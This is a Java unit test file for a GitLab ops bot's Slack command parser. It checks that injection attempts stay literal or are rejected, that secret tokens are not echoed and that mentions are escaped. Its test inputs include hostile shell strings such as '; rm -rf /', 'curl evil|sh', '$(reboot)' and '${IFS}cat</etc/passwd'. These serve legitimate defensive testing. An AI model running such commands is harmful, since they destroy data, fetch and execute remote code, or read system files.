package io.gitlabopsbot.command;

import static io.gitlabopsbot.command.CommandParserTest.invalid;
import static io.gitlabopsbot.command.CommandParserTest.parsed;
import static io.gitlabopsbot.command.CommandParserTest.spec;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import io.gitlabopsbot.command.CommandSpec.ArgumentSpec;
import io.gitlabopsbot.command.ParseResult.Invalid;
import io.gitlabopsbot.command.ParseResult.Parsed;
import io.gitlabopsbot.config.Role;
import io.gitlabopsbot.message.SlackText;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class CommandParserSafetyTest {

  static Stream<Arguments> shellText() {
    return Stream.of(
        arguments("note \"; rm -rf /\"", "; rm -rf /"),
        arguments("note '$(reboot)'", "$(reboot)"),
        arguments("note $(reboot)", "$(reboot)"),
        arguments("note `id`", "`id`"),
        arguments("note a;reboot", "a;reboot"),
        arguments("note \"a &amp;&amp; curl evil|sh\"", "a && curl evil|sh"),
        arguments("note ‘x | sh’", "x | sh"),
        arguments("note \"${IFS}cat</etc/passwd\"", "${IFS}cat</etc/passwd"),
        arguments("note '*'", "*"),
        arguments("note ~root", "~root"),
        arguments("note \"a\\\\b\\\"c\\n\"", "a\\b\"c\\n"),
        arguments("note &lt;!channel&gt;", "<!channel>"),
        arguments("note 'it\"s'", "it\"s"),
        arguments("note \"don't\"", "don't"));
  }

  @ParameterizedTest
  @MethodSource("shellText")
  void parse_whenShellSyntaxQuoted_keepsItAsOneLiteralArgument(String text, String argument) {
    Parsed result = parsed(text);

    assertThat(result.arguments()).containsExactly(argument);
    assertThat(result.flags()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "note ; rm -rf /",
        "note a && curl evil|sh",
        "note a &amp;&amp; curl evil|sh",
        "note x | sh",
        "note $(reboot) now"
      })
  void parse_whenShellSyntaxUnquoted_neverSplitsIntoAnotherCommand(String text) {
    Invalid result = invalid(text);

    assertThat(result.problem()).startsWith("unexpected argument `");
    assertThat(result.usage()).isEqualTo("/gitlab note <text> [--token token] [--reason text]");
  }

  @ParameterizedTest
  @ValueSource(strings = {"note -rf", "note '-rf'", "note -- -rf", "note --reason=-rf x"})
  void parse_whenFreeTextLooksLikeAnOption_isRejected(String text) {
    assertThat(invalid(text).problem()).contains("-rf");
  }

  @Test
  void parse_whenFreeTextArgumentIsEmpty_isRejected() {
    assertThat(invalid("note \"\"").problem())
        .isEqualTo("`\"\"` is not a valid text: it must not be empty");
  }

  @Test
  void parse_whenSecretFlagValueInvalid_neverEchoesIt() {
    Invalid result = invalid("note hi --token glpat-short&lt;!channel&gt;");

    assertThat(result.problem())
        .isEqualTo(
            "the value given is not a valid value for --token: expected a personal access token")
        .doesNotContain("glpat")
        .doesNotContain("short");
  }

  @Test
  void parse_whenSecretFlagValid_bindsIt() {
    String token = "glpat-" + "a1B2c3D4e5F6g7H8i9J0";

    assertThat(parsed("note hi --token=" + token).flags()).isEqualTo(Map.of("token", token));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "restore &lt;!channel&gt;",
        "restore <!channel>",
        "restore <!here>",
        "restore <@U123ABC>",
        "restore <#C123|ops>",
        "restore <!subteam^S123>",
        "<!everyone>",
        "backup <@U1>",
        "backup now --<!channel>",
        "backup now --target <!channel>"
      })
  void parse_whenInputMentionsSomeone_problemCannotPing(String text) {
    String problem = invalid(text).problem();

    assertThat(problem).doesNotContain("<").doesNotContain(">").contains("&lt;");
  }

  @Test
  void parse_whenSpecTextIsHuge_problemIsCapped() {
    CommandSpec wordy =
        spec(
            "wordy",
            List.of(new ArgumentSpec("x", true, "[a-z]", "one letter, " + "really ".repeat(80))),
            List.of(),
            Role.VIEWER);
    CommandParser parser = new CommandParser("/gitlab", List.of(wordy));

    Invalid result = (Invalid) parser.parse("wordy " + "`".repeat(900));

    assertThat(result.problem()).hasSize(SlackText.MAX_MESSAGE).endsWith("…");
    assertThat(result.problem()).startsWith("`" + "'".repeat(40) + "…` is not a valid x");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"\"",
        "“„‘’”“",
        "--=x",
        "--",
        "-",
        "backup now --=",
        "backup now ---",
        "backup now --skip=--skip=db",
        "audit --target=a=b",
        "''",
        "' '"
      })
  void parse_whenOddSyntax_returnsCappedResultWithoutThrowing(String text) {
    ParseResult result = CommandParserTest.parser().parse(text);

    if (result instanceof Invalid problem) {
      assertThat(problem.problem()).isNotBlank().hasSizeLessThanOrEqualTo(SlackText.MAX_MESSAGE);
    } else {
      assertThat(((Parsed) result).spec()).isNotNull();
    }
  }
}
